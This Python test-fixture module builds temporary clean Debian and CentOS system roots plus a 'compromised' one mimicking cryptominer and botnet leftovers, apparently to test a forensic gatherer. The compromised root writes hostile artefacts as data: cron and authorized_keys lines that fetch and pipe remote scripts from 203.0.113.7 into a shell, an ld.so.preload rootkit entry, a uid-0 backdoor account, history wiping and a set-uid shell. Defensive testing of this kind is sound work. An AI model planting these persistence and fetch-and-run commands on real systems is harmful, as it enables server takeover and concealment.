# ruff: noqa: E501 - default file contents of real distributions, kept as written
"""Temporary system roots built from real files: a compromised one (what miners and botnets
leave behind) and freshly installed Debian- and CentOS-style ones (which must stay quiet).

The compromised root holds a set-uid copy of /bin/sh and, where the filesystem supports it, an
immutable file: the fixtures always clear both afterwards so nothing dangerous or undeletable is
left in /tmp.
"""

from __future__ import annotations

import base64
import fcntl
import os
import shutil
import stat
import struct
from dataclasses import dataclass, field
from pathlib import Path

FS_IOC_GETFLAGS = (2 << 30) | (struct.calcsize("l") << 16) | (ord("f") << 8) | 1
FS_IOC_SETFLAGS = (1 << 30) | (struct.calcsize("l") << 16) | (ord("f") << 8) | 2
FS_IMMUTABLE_FL = 0x10

KEY_ED25519 = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(range(32))).decode()
KEY_RSA = base64.b64encode(
    b"\0\0\0\x07ssh-rsa\0\0\0\x03\x01\0\x01\0\0\0\x81" + bytes(range(129))
).decode()


def write(root: Path, path: str, content: str | bytes, mode: int = 0o644) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, str):
        target.write_text(content)
    else:
        target.write_bytes(content)
    target.chmod(mode)
    return target


def set_immutable(path: Path, on: bool) -> bool:
    """chattr +i / -i through the ioctl (as the gatherer reads it). False if unsupported."""
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        flags = struct.unpack("i", fcntl.ioctl(fd, FS_IOC_GETFLAGS, b"\0" * 8)[:4])[0]
        flags = flags | FS_IMMUTABLE_FL if on else flags & ~FS_IMMUTABLE_FL
        fcntl.ioctl(fd, FS_IOC_SETFLAGS, struct.pack("i", flags) + b"\0" * 4)
        return True
    except OSError:
        return False
    finally:
        os.close(fd)


@dataclass
class Sysroot:
    root: Path
    immutable: list[Path] = field(default_factory=list)  # files made immutable (if supported)
    setuid: list[Path] = field(default_factory=list)

    def cleanup(self) -> None:
        for path in self.immutable:
            set_immutable(path, False)
        for path in self.setuid:
            if path.exists():
                path.chmod(0o755)


DEBIAN_PASSWD = """\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
news:x:9:9:news:/var/spool/news:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
_apt:x:42:65534::/nonexistent:/usr/sbin/nologin
systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin
messagebus:x:100:107::/nonexistent:/usr/sbin/nologin
sshd:x:101:65534::/run/sshd:/usr/sbin/nologin
redis:x:110:117::/var/lib/redis:/usr/sbin/nologin
postgres:x:111:118:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
admin:x:1000:1000:Debian:/home/admin:/bin/bash
"""
# Hashes are fake but shaped like real ones: the tests check none of them leaves the gatherer.
FAKE_HASH = "$6$saltsalt$" + "H" * 86
DEBIAN_SHADOW = f"""\
root:{FAKE_HASH}:19800:0:99999:7:::
daemon:*:19800:0:99999:7:::
bin:*:19800:0:99999:7:::
sys:*:19800:0:99999:7:::
sync:*:19800:0:99999:7:::
games:*:19800:0:99999:7:::
man:*:19800:0:99999:7:::
lp:*:19800:0:99999:7:::
mail:*:19800:0:99999:7:::
news:*:19800:0:99999:7:::
www-data:*:19800:0:99999:7:::
backup:*:19800:0:99999:7:::
nobody:*:19800:0:99999:7:::
_apt:*:19800:0:99999:7:::
systemd-network:!*:19800::::::
messagebus:!:19800::::::
sshd:!:19800::::::
redis:!:19800::::::
postgres:!:19800::::::
admin:!{FAKE_HASH}:19800:0:99999:7:::
"""


def _copy_tree(src: str, root: Path, limit: int = 2000) -> None:
    """Copy a real directory of this machine into the root (symlinks kept as links)."""
    source = Path(src)
    if not source.is_dir():
        return
    target = root / src.lstrip("/")
    target.mkdir(parents=True, exist_ok=True)
    for n, entry in enumerate(sorted(source.iterdir())):
        if n >= limit:
            break
        dest = target / entry.name
        try:
            if entry.is_symlink():
                dest.symlink_to(os.readlink(entry))
            elif entry.is_dir():
                _copy_tree(str(entry), root, limit)
            elif entry.is_file():
                shutil.copy2(entry, dest)
        except OSError:
            continue


def _copy_file(src: str, root: Path) -> None:
    source = Path(src)
    if source.is_file():
        dest = root / src.lstrip("/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(source, dest)


def build_debian(root: Path) -> Sysroot:
    """A freshly installed Debian-style root: this machine's own packaged cron, init, profile
    and systemd files, plus Debian's default accounts."""
    for directory in (
        "/etc/cron.d",
        "/etc/cron.daily",
        "/etc/cron.hourly",
        "/etc/cron.weekly",
        "/etc/cron.monthly",
        "/etc/init.d",
        "/etc/profile.d",
        "/etc/systemd/system",
        "/usr/lib/systemd/system",
    ):
        _copy_tree(directory, root)
    for file in (
        "/etc/crontab",
        "/etc/profile",
        "/etc/bash.bashrc",
        "/etc/os-release",
        "/etc/skel/.bashrc",
    ):
        _copy_file(file, root)
    write(root, "/etc/passwd", DEBIAN_PASSWD)
    write(root, "/etc/shadow", DEBIAN_SHADOW, 0o640)
    skel = root / "etc/skel/.bashrc"
    for home in ("/root", "/home/admin"):
        if skel.is_file():
            write(root, f"{home}/.bashrc", skel.read_bytes())
        write(root, f"{home}/.profile", 'if [ -n "$BASH_VERSION" ]; then . "$HOME/.bashrc"; fi\n')
    write(
        root, "/home/admin/.ssh/authorized_keys", f"ssh-ed25519 {KEY_ED25519} admin@laptop\n", 0o600
    )
    write(root, "/var/log/auth.log", "")
    write(root, "/var/log/auth.log.1", "Jan  1 00:00:01 host sshd[1]: Server listening\n")
    write(root, "/var/log/wtmp", b"\0" * 384)
    write(root, "/var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\n")
    # Written at "install time" (now): the files above are as old as the system.
    write(root, "/etc/ssh/ssh_host_ed25519_key.pub", f"ssh-ed25519 {KEY_ED25519} root@debian\n")
    (root / "tmp").mkdir(exist_ok=True)
    (root / "tmp/.X11-unix").mkdir(exist_ok=True)
    return Sysroot(root)


CENTOS_PASSWD = """\
root:x:0:0:root:/root:/bin/bash
bin:x:1:1:bin:/bin:/sbin/nologin
daemon:x:2:2:daemon:/sbin:/sbin/nologin
adm:x:3:4:adm:/var/adm:/sbin/nologin
lp:x:4:7:lp:/var/spool/lpd:/sbin/nologin
sync:x:5:0:sync:/sbin:/bin/sync
shutdown:x:6:0:shutdown:/sbin:/sbin/shutdown
halt:x:7:0:halt:/sbin:/sbin/halt
mail:x:8:12:mail:/var/spool/mail:/sbin/nologin
operator:x:11:0:operator:/root:/sbin/nologin
games:x:12:100:games:/usr/games:/sbin/nologin
ftp:x:14:50:FTP User:/var/ftp:/sbin/nologin
nobody:x:99:99:Nobody:/:/sbin/nologin
systemd-network:x:192:192:systemd Network Management:/:/sbin/nologin
dbus:x:81:81:System message bus:/:/sbin/nologin
polkitd:x:999:998:User for polkitd:/:/sbin/nologin
sshd:x:74:74:Privilege-separated SSH:/var/empty/sshd:/sbin/nologin
postfix:x:89:89::/var/spool/postfix:/sbin/nologin
chrony:x:998:996::/var/lib/chrony:/sbin/nologin
"""
CENTOS_SHADOW = f"""\
root:{FAKE_HASH}:18000:0:99999:7:::
bin:*:17834:0:99999:7:::
daemon:*:17834:0:99999:7:::
adm:*:17834:0:99999:7:::
lp:*:17834:0:99999:7:::
sync:*:17834:0:99999:7:::
shutdown:*:17834:0:99999:7:::
halt:*:17834:0:99999:7:::
mail:*:17834:0:99999:7:::
operator:*:17834:0:99999:7:::
games:*:17834:0:99999:7:::
ftp:*:17834:0:99999:7:::
nobody:*:17834:0:99999:7:::
systemd-network:!!:18000::::::
dbus:!!:18000::::::
polkitd:!!:18000::::::
sshd:!!:18000::::::
postfix:!!:18000::::::
chrony:!!:18000::::::
"""


def build_centos(root: Path) -> Sysroot:
    """A freshly installed CentOS-style root (as cloud images ship it, with Tencent's agent
    cron entries), written from the distribution's default file contents."""
    write(root, "/etc/passwd", CENTOS_PASSWD)
    write(root, "/etc/shadow", CENTOS_SHADOW, 0o000)
    write(
        root,
        "/etc/crontab",
        "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n\n"
        "# For details see man 4 crontabs\n",
    )
    write(
        root,
        "/etc/cron.d/0hourly",
        "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n01 * * * * root run-parts /etc/cron.hourly\n",
    )
    write(
        root,
        "/etc/cron.d/sgagenttask",
        "*/1 * * * * root /usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &\n",
    )
    write(
        root,
        "/etc/cron.d/yunjing",
        "*/1 * * * * root /usr/local/qcloud/YunJing/YDCrontab.sh > /dev/null 2>&1 &\n",
    )
    write(
        root,
        "/etc/cron.hourly/0anacron",
        "#!/bin/sh\n# Check whether 0anacron was run today already\n"
        "if test -r /var/spool/anacron/cron.daily; then\n    day=`cat /var/spool/anacron/cron.daily`\nfi\n"
        'if [ `date +%Y%m%d` = "$day" ]; then\n    exit 0\nfi\n'
        "if test -x /usr/bin/on_ac_power; then\n    /usr/bin/on_ac_power >/dev/null 2>&1\n"
        "    if test $? -eq 1; then\n    exit 0\n    fi\nfi\n/usr/sbin/anacron -s\n",
        0o755,
    )
    write(
        root,
        "/etc/cron.daily/logrotate",
        "#!/bin/sh\n\n/usr/sbin/logrotate -s /var/lib/logrotate/logrotate.status /etc/logrotate.conf\n"
        'EXITVALUE=$?\nif [ $EXITVALUE != 0 ]; then\n    /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"\nfi\nexit 0\n',
        0o755,
    )
    write(
        root,
        "/etc/rc.d/rc.local",
        "#!/bin/bash\n# THIS FILE IS ADDED FOR COMPATIBILITY PURPOSES\n#\n"
        "touch /var/lock/subsys/local\n/usr/local/qcloud/rps/set_rps.sh >/tmp/setRps.log 2>&1\n"
        "/usr/local/qcloud/irq/net_smp_affinity.sh >/tmp/net_affinity.log 2>&1\n",
        0o644,
    )
    (root / "etc").mkdir(exist_ok=True)
    os.symlink("rc.d/rc.local", root / "etc/rc.local")
    os.symlink("rc.d/init.d", root / "etc/init.d")
    write(
        root,
        "/etc/rc.d/init.d/network",
        "#! /bin/bash\n#\n# network       Bring up/down networking\n. /etc/init.d/functions\n"
        "if [ ! -f /etc/sysconfig/network ]; then\n    exit 6\nfi\ncd /etc/sysconfig/network-scripts\n"
        "rc=0\nexit $rc\n",
        0o755,
    )
    write(
        root,
        "/etc/profile.d/lang.sh",
        "# /etc/profile.d/lang.sh - exports environment variables\nsourced=0\n"
        'if [ -n "$LC_ALL" ]; then\n  unset LANG\nfi\n',
    )
    write(
        root,
        "/etc/profile.d/which2.sh",
        "alias which='alias | /usr/bin/which --tty-only --read-alias --show-dot --show-tilde'\n",
    )
    write(
        root,
        "/etc/profile",
        'pathmunge () {\n    case ":${PATH}:" in\n        *:"$1":*)\n            ;;\n    esac\n}\nHISTSIZE=1000\nexport PATH USER LOGNAME MAIL HOSTNAME HISTSIZE HISTCONTROL\n',
    )
    write(
        root,
        "/etc/bashrc",
        '[ "$PS1" = "\\\\s-\\\\v\\\\\\$ " ] && PS1="[\\u@\\h \\W]\\\\$ "\nshopt -s checkwinsize\n',
    )
    write(
        root,
        "/root/.bashrc",
        "# .bashrc\nalias rm='rm -i'\nalias cp='cp -i'\nif [ -f /etc/bashrc ]; then\n\t. /etc/bashrc\nfi\n",
    )
    write(
        root,
        "/root/.bash_profile",
        "# .bash_profile\nif [ -f ~/.bashrc ]; then\n\t. ~/.bashrc\nfi\nPATH=$PATH:$HOME/bin\nexport PATH\n",
    )
    write(
        root,
        "/usr/lib/systemd/system/sshd.service",
        "[Unit]\nDescription=OpenSSH server daemon\n[Service]\nType=notify\nEnvironmentFile=/etc/sysconfig/sshd\n"
        "ExecStart=/usr/sbin/sshd -D $OPTIONS\nExecReload=/bin/kill -HUP $MAINPID\n[Install]\nWantedBy=multi-user.target\n",
    )
    write(
        root,
        "/usr/lib/systemd/system/tmp.mount",
        "[Mount]\nWhat=tmpfs\nWhere=/tmp\nType=tmpfs\n",
    )
    write(
        root,
        "/usr/lib/systemd/system/systemd-tmpfiles-clean.service",
        "[Unit]\nDescription=Cleanup of Temporary Directories\n[Service]\nType=oneshot\n"
        "ExecStart=/usr/bin/systemd-tmpfiles --clean\n",
    )
    (root / "etc/systemd/system/multi-user.target.wants").mkdir(parents=True)
    os.symlink(
        "/usr/lib/systemd/system/sshd.service",
        root / "etc/systemd/system/multi-user.target.wants/sshd.service",
    )
    write(
        root,
        "/etc/sysconfig/iptables",
        "*filter\n:INPUT ACCEPT [0:0]\n:FORWARD ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\n"
        "-A INPUT -m state --state RELATED,ESTABLISHED -j ACCEPT\n-A INPUT -p icmp -j ACCEPT\n"
        "-A INPUT -i lo -j ACCEPT\n-A INPUT -p tcp -m state --state NEW -m tcp --dport 22 -j ACCEPT\n"
        "-A INPUT -j REJECT --reject-with icmp-host-prohibited\nCOMMIT\n",
        0o600,
    )
    write(
        root,
        "/etc/os-release",
        'NAME="CentOS Linux"\nVERSION="7 (Core)"\nID="centos"\nVERSION_ID="7"\n',
    )
    write(root, "/var/log/secure", "")
    write(root, "/var/log/secure-20260101", "Jan  1 00:00:01 host sshd[1]: Server listening\n")
    write(root, "/var/log/messages", "Jan  1 00:00:01 host kernel: Linux version\n")
    write(root, "/var/lib/rpm/Packages", b"\0" * 64)
    write(root, "/root/anaconda-ks.cfg", "#version=DEVEL\n")
    write(root, "/usr/local/qcloud/YunJing/YDEyes/YDService", b"\x7fELF" + b"\0" * 60, 0o755)
    write(root, "/usr/bin/passwd", b"\x7fELF" + b"\0" * 60, 0o4755)
    write(root, "/usr/bin/crontab", b"\x7fELF" + b"\0" * 60, 0o4755)
    (root / "var/spool/cron").mkdir(parents=True)
    (root / "tmp").mkdir(exist_ok=True)
    return Sysroot(root, setuid=[root / "usr/bin/passwd", root / "usr/bin/crontab"])


def build_compromised(root: Path) -> Sysroot:
    """What a miner/botnet campaign leaves on a Debian server."""
    sysroot = build_debian(root)
    write(
        root,
        "/etc/passwd",
        DEBIAN_PASSWD
        + "toor:x:0:0::/root:/bin/bash\nbackdoor:x:1001:1001::/home/backdoor:/bin/bash\n",
    )
    write(
        root,
        "/etc/shadow",
        DEBIAN_SHADOW + f"toor:{FAKE_HASH}:19990:0:99999:7:::\nbackdoor::19990:0:99999:7:::\n",
        0o640,
    )
    crontab = (root / "etc/crontab").read_text() if (root / "etc/crontab").exists() else ""
    write(
        root, "/etc/crontab", crontab + "*/5 * * * * root curl -fsSL http://203.0.113.7/ldm | sh\n"
    )
    cron_file = write(
        root, "/etc/cron.d/tomcat", "*/2 * * * * root /tmp/.ICE-unix/.x/sysupdate >/dev/null 2>&1\n"
    )
    write(
        root,
        "/var/spool/cron/crontabs/root",
        "@reboot wget -q -O /tmp/kd http://203.0.113.7/kd; chmod +x /tmp/kd; /tmp/kd\n",
        0o600,
    )
    write(
        root,
        "/etc/systemd/system/sysupdate.service",
        "[Unit]\nDescription=System update service\n[Service]\nExecStart=/dev/shm/.s/sysupdate -c /dev/shm/.s/config.json\n"
        "Restart=always\n[Install]\nWantedBy=multi-user.target\n",
    )
    (root / "etc/systemd/system/multi-user.target.wants").mkdir(parents=True, exist_ok=True)
    os.symlink(
        "/etc/systemd/system/sysupdate.service",
        root / "etc/systemd/system/multi-user.target.wants/sysupdate.service",
    )
    os.symlink("/var/tmp/.u/update.service", root / "etc/systemd/system/update.service")
    write(root, "/etc/ld.so.preload", "/usr/local/lib/libioset.so\n")
    write(root, "/usr/local/lib/libioset.so", b"\x7fELF" + b"\0" * 60)
    write(
        root,
        "/root/.ssh/authorized_keys",
        f"ssh-ed25519 {KEY_ED25519} admin@laptop\n"
        f'command="curl -s http://203.0.113.7/s.sh | bash",no-pty ssh-rsa {KEY_RSA} backup@evil\n',
        0o600,
    )
    write(
        root,
        "/var/lib/redis/.ssh/authorized_keys",
        b"REDIS0009\xfa\tredis-ver\x056.0.6\xfa\n\n\nssh-rsa "
        + KEY_RSA.encode()
        + b" crackit\n\n\n\xff\x00",
        0o600,
    )
    write(root, "/home/backdoor/.bashrc", "export PROMPT_COMMAND='history -c'\nunset HISTFILE\n")
    os.symlink("/dev/null", root / "root/.bash_history")
    write(root, "/var/log/auth.log", "")
    (root / "var/log/auth.log.1").unlink()
    shell = write(root, "/tmp/.ICE-unix/.x/sh", Path("/bin/sh").read_bytes(), 0o4755)
    write(root, "/tmp/.ICE-unix/.x/sysupdate", b"\x7fELF" + b"\0" * 1000, 0o755)
    write(root, "/dev/shm/.s/sysupdate", b"\x7fELF" + b"\0" * 1000, 0o755)
    write(root, "/tmp/kdevtmpfsi", b"\x7fELF" + b"\0" * 100, 0o755)
    write(root, "/usr/bin/wge", b"\x7fELF" + b"\0" * 100, 0o755)
    write(
        root,
        "/etc/iptables/rules.v4",
        "*filter\n-A OUTPUT -p tcp -m tcp --dport 3333 -j DROP\nCOMMIT\n",
    )
    # Hostile text: terminal escapes and bytes that are not UTF-8 in a cron comment and a line.
    write(
        root, "/etc/cron.d/evil-text", b"# \x1b]0;PWNED\x07\n* * * * * root /tmp/\xff\x1b[2J.sh\n"
    )
    sysroot.setuid.append(shell)
    if set_immutable(cron_file, True):
        sysroot.immutable.append(cron_file)
    return sysroot


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)
